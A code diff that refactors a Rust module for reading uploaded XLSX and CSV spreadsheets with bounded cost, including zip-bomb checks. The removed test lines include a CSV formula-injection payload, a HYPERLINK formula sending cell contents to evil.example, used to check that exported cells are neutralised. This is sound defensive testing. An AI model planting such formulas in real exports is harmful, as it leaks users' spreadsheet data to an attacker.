@@ -1,102 +1,15 @@
-//! Spreadsheets in and out: reading what people upload (XLSX and CSV) into
-//! rows of text, with every cost bounded whatever the file claims, and
-//! writing CSV that a spreadsheet program opens without running anything.
-//!
-//! An XLSX file is a zip archive of XML parts, and a hostile one can claim
-//! a cell a million rows down (a reader that builds a dense grid then
-//! allocates the whole rectangle), unpack to gigabytes, or hang thousands of
-//! attributes on one tag. General spreadsheet libraries trust the file's
-//! own numbers (one reserves memory for as many shared strings as the file
-//! says it has), so this small reader reads only what an import needs:
-//!
-//! - the archive's directory is checked before anything is unpacked: how
-//!   many entries, how large unpacked, how compressed;
-//! - each part is read through a counter that stops at the size the
-//!   directory declared, so a lying entry cannot unpack more;
-//! - the sheet is read as a stream of cells; only cells with a value count,
-//!   and one beyond [`Limits`] ends the reading with [`ReadError::TooLarge`];
-//! - no tag may be longer than [`MAX_TAG`] bytes and no cell longer than
-//!   [`MAX_CELL_CHARS`] characters.
-//!
-//! CSV is read field by field with `csv-core`, so a line of a million empty
-//! fields costs nothing either.
+//! XLSX read within bounds: the archive checked before unpacking, parts
+//! unpacked no further than they declare, the sheet read as a stream.
 
 use std::collections::HashMap;
 use std::io::{BufRead, BufReader, Cursor, Read};
 
 use quick_xml::events::{BytesStart, Event};
 
-/// What makes a spreadsheet program read a cell as a formula when it
-/// opens a CSV file (OWASP's list): `=SUM(…)`, `+`, `-`, `@`, a tab or a
-/// carriage return first.
-const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+use super::{Limits, MAX_CELL_CHARS, ReadError, Rows, Table};
 
-/// A CSV cell as we write it: one that a spreadsheet program would run as
-/// a formula gets a leading apostrophe, which it shows as text. So does one
-/// that starts with an apostrophe already, so reading undoes exactly this.
-pub fn csv_cell(text: &str) -> std::borrow::Cow<'_, str> {
-    if text.starts_with(FORMULA_START) || text.starts_with('\'') {
-        format!("'{text}").into()
-    } else {
-        text.into()
-    }
-}
-
-/// Undoes [`csv_cell`]: an apostrophe before a formula character or
-/// another apostrophe goes; any other apostrophe is the text's own.
-fn from_csv_cell(text: &str) -> &str {
-    match text.strip_prefix('\'') {
-        Some(rest) if rest.starts_with(FORMULA_START) || rest.starts_with('\'') => rest,
-        _ => text,
-    }
-}
-
-/// A CSV file whose every cell goes through [`csv_cell`].
-pub struct CsvWriter {
-    inner: csv::Writer<Vec<u8>>,
-}
-
-impl Default for CsvWriter {
-    fn default() -> Self {
-        Self {
-            inner: csv::Writer::from_writer(Vec::new()),
-        }
-    }
-}
-
-impl CsvWriter {
-    pub fn row<I, S>(&mut self, cells: I) -> anyhow::Result<()>
-    where
-        I: IntoIterator<Item = S>,
-        S: AsRef<str>,
-    {
-        let cells: Vec<String> = cells
-            .into_iter()
-            .map(|c| csv_cell(c.as_ref()).into_owned())
-            .collect();
-        self.inner.write_record(&cells)?;
-        Ok(())
-    }
-
-    pub fn finish(self) -> anyhow::Result<Vec<u8>> {
-        Ok(self.inner.into_inner()?)
-    }
-}
-
-/// The largest table an import takes.
-#[derive(Debug, Clone, Copy)]
-pub struct Limits {
-    /// Rows, the header included.
-    pub rows: usize,
-    pub columns: usize,
-}
-
-/// Excel's own limit for the text of one cell.
-pub const MAX_CELL_CHARS: usize = 32_767;
 /// A workbook has a dozen parts; thousands mean something else.
 const MAX_ENTRIES: usize = 1_000;
-/// What all parts together may unpack to.
-pub const MAX_UNPACKED_BYTES: u64 = 64 * 1024 * 1024;
 /// How much smaller than its content a large part may be. Spreadsheet XML
 /// compresses about tenfold; a bomb, a thousandfold.
 const MAX_RATIO: u64 = 200;
@@ -105,132 +18,7 @@ const RATIO_FROM_BYTES: u64 = 1024 * 1024;
 /// The longest start tag read. A cell's tag is a few dozen bytes.
 const MAX_TAG: usize = 16 * 1024;
 
-/// Why a file could not be read; each is a sentence for the person.
-#[derive(Debug, Clone, PartialEq, Eq)]
-pub enum ReadError {
-    /// Neither CSV nor XLSX, or a damaged one.
-    Unreadable,
-    /// CSV that is not UTF-8.
-    NotUtf8,
-    /// A value beyond the last row or column an import takes.
-    TooLarge,
-    /// An archive that unpacks to more than [`MAX_UNPACKED_BYTES`], has too
-    /// many entries or is compressed like a bomb.
-    Unpacks,
-    /// A cell longer than [`MAX_CELL_CHARS`]; row and column count from 1,
-    /// and are 0 when not known (a shared string too long).
-    CellTooLong { row: usize, column: usize },
-}
-
-/// Rows of cells as text, from the file's first row: the table's index
-/// `i` is the file's row `i + 1`. In a workbook, empty rows are kept (as
-/// empty vectors), so row numbers stay those people see in their
-/// spreadsheet program; in CSV, a row is a record and blank lines are
-/// skipped.
-pub type Table = Vec<Vec<String>>;
-
-/// Reads an XLSX file (recognised by its zip signature) or else CSV. For
-/// XLSX, the first sheet named in `sheets` is read, or else the first sheet.
-pub fn read(bytes: &[u8], sheets: &[&str], limits: Limits) -> Result<Table, ReadError> {
-    if bytes.starts_with(b"PK\x03\x04") {
-        read_xlsx(bytes, sheets, limits)
-    } else {
-        read_csv(bytes, limits)
-    }
-}
-
-/// The spreadsheet column name of a 1-based column number: 1 → A, 28 → AB.
-pub fn column_name(mut column: usize) -> String {
-    let mut name = Vec::new();
-    while column > 0 {
-        let rem = (column - 1) % 26;
-        name.push(b'A' + rem as u8);
-        column = (column - 1) / 26;
-    }
-    name.reverse();
-    String::from_utf8(name).unwrap_or_default()
-}
-
-/// Collects cells into rows, refusing what lies beyond the limits.
-struct Rows {
-    limits: Limits,
-    table: Table,
-}
-
-impl Rows {
-    fn new(limits: Limits) -> Self {
-        Self {
-            limits,
-            table: Vec::new(),
-        }
-    }
-
-    /// Sets the cell at 0-based `row` and `column`; empty values are skipped.
-    fn put(&mut self, row: usize, column: usize, value: String) -> Result<(), ReadError> {
-        if value.is_empty() {
-            return Ok(());
-        }
-        if row >= self.limits.rows || column >= self.limits.columns {
-            return Err(ReadError::TooLarge);
-        }
-        if value.chars().count() > MAX_CELL_CHARS {
-            return Err(ReadError::CellTooLong {
-                row: row + 1,
-                column: column + 1,
-            });
-        }
-        if self.table.len() <= row {
-            self.table.resize_with(row + 1, Vec::new);
-        }
-        let cells = &mut self.table[row];
-        if cells.len() <= column {
-            cells.resize_with(column + 1, String::new);
-        }
-        cells[column] = value;
-        Ok(())
-    }
-}
-
-fn read_csv(bytes: &[u8], limits: Limits) -> Result<Table, ReadError> {
-    let text = std::str::from_utf8(bytes).map_err(|_| ReadError::NotUtf8)?;
-    let mut input = text.trim_start_matches('\u{feff}').as_bytes();
-    let mut reader = csv_core::Reader::new();
-    let mut rows = Rows::new(limits);
-    // A field longer than a cell may be is refused when the buffer fills.
-    let mut field = vec![0u8; MAX_CELL_CHARS * 4];
-    let mut filled = 0;
-    let (mut row, mut column) = (0, 0);
-    loop {
-        let (result, read, written) = reader.read_field(input, &mut field[filled..]);
-        input = &input[read..];
-        filled += written;
-        match result {
-            csv_core::ReadFieldResult::InputEmpty => {}
-            csv_core::ReadFieldResult::OutputFull => {
-                return Err(ReadError::CellTooLong {
-                    row: row + 1,
-                    column: column + 1,
-                });
-            }
-            csv_core::ReadFieldResult::Field { record_end } => {
-                let value =
-                    std::str::from_utf8(&field[..filled]).map_err(|_| ReadError::NotUtf8)?;
-                rows.put(row, column, from_csv_cell(value).to_owned())?;
-                filled = 0;
-                if record_end {
-                    row += 1;
-                    column = 0;
-                } else {
-                    column += 1;
-                }
-            }
-            csv_core::ReadFieldResult::End => break,
-        }
-    }
-    Ok(rows.table)
-}
-
-fn read_xlsx(bytes: &[u8], sheets: &[&str], limits: Limits) -> Result<Table, ReadError> {
+pub(super) fn read(bytes: &[u8], sheets: &[&str], limits: Limits) -> Result<Table, ReadError> {
     check_directory_end(bytes)?;
     let mut archive =
         zip::ZipArchive::new(Cursor::new(bytes)).map_err(|_| ReadError::Unreadable)?;
@@ -281,7 +69,7 @@ fn check_entries(
         let (size, packed) = (entry.size(), entry.compressed_size());
         total = total.saturating_add(size);
         let bomb = size >= RATIO_FROM_BYTES && size / packed.max(1) > MAX_RATIO;
-        if total > MAX_UNPACKED_BYTES || bomb {
+        if total > super::MAX_UNPACKED_BYTES || bomb {
             return Err(ReadError::Unpacks);
         }
         let name = entry.name().map_err(|_| ReadError::Unreadable)?;
@@ -680,62 +468,6 @@ mod tests {
         assert_eq!(cell_position("XFD1048576"), Some((1_048_575, 16_383)));
         assert_eq!(cell_position("1A"), None);
         assert_eq!(cell_position("A0"), None);
-        assert_eq!(column_name(1), "A");
-        assert_eq!(column_name(28), "AB");
-        assert_eq!(column_name(16_384), "XFD");
-    }
-
-    #[test]
-    fn csv_rows_keep_their_numbers_and_stop_at_the_limits() {
-        let table = read(b"\xef\xbb\xbfa,b\n\n\"x,y\",2\n,\n", &[], LIMITS).unwrap();
-        assert_eq!(
-            table,
-            vec![
-                vec!["a".to_owned(), "b".to_owned()],
-                vec!["x,y".to_owned(), "2".to_owned()],
-            ]
-        );
-        // Empty fields beyond the last column cost nothing; a value there is refused.
-        let wide = format!("a{}\n", ",".repeat(1_000_000));
-        assert_eq!(read(wide.as_bytes(), &[], LIMITS).unwrap().len(), 1);
-        let far = format!("a{},z\n", ",".repeat(20));
-        assert_eq!(read(far.as_bytes(), &[], LIMITS), Err(ReadError::TooLarge));
-        let long = "a\n".repeat(101);
-        assert_eq!(read(long.as_bytes(), &[], LIMITS), Err(ReadError::TooLarge));
-        let huge = "x".repeat(MAX_CELL_CHARS * 4 + 1);
-        assert_eq!(
-            read(huge.as_bytes(), &[], LIMITS),
-            Err(ReadError::CellTooLong { row: 1, column: 1 })
-        );
-        assert_eq!(read(b"\xff\xfe", &[], LIMITS), Err(ReadError::NotUtf8));
-    }
-
-    #[test]
-    fn csv_cells_never_run_and_read_back_as_written() {
-        let texts = [
-            "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
-            "+1",
-            "-5",
-            "@SUM(A1)",
-            "\tx",
-            "\rx",
-            "'=already quoted",
-            "'plain apostrophe",
-            "''",
-            "plain",
-            "",
-        ];
-        let mut w = CsvWriter::default();
-        w.row(texts).unwrap();
-        let bytes = w.finish().unwrap();
-        let written = String::from_utf8(bytes.clone()).unwrap();
-        assert!(written.starts_with("\"'=HYPERLINK("), "{written}");
-        assert!(written.contains(",'+1,'-5,'@SUM(A1),"), "{written}");
-        let back = read(&bytes, &[], LIMITS).unwrap();
-        let expected: Vec<&str> = texts[..texts.len() - 1].to_vec();
-        assert_eq!(back[0], expected);
-        // A person's own apostrophe before ordinary text is kept.
-        assert_eq!(read(b"'hello", &[], LIMITS).unwrap()[0], vec!["'hello"]);
     }
 
     #[test]
@@ -757,14 +489,14 @@ mod tests {
         sheet.write_number(2, 1, 25_000).unwrap();
         sheet.write_string(2, 2, "line\none").unwrap();
         let bytes = book.save_to_buffer().unwrap();
-        let table = read(&bytes, &["Missing", "Plan"], LIMITS).unwrap();
+        let table = super::super::read(&bytes, &["Missing", "Plan"], LIMITS).unwrap();
         assert_eq!(table.len(), 3);
         assert_eq!(table[0], vec!["code", "", "title & <more>"]);
         assert!(table[1].is_empty());
         assert_eq!(table[2], vec!["", "25000", "line\none"]);
         // Without a sheet of the wanted name, the first one.
         assert_eq!(
-            read(&bytes, &["Missing"], LIMITS).unwrap()[0],
+            super::super::read(&bytes, &["Missing"], LIMITS).unwrap()[0],
             vec!["ignored"]
         );
     }
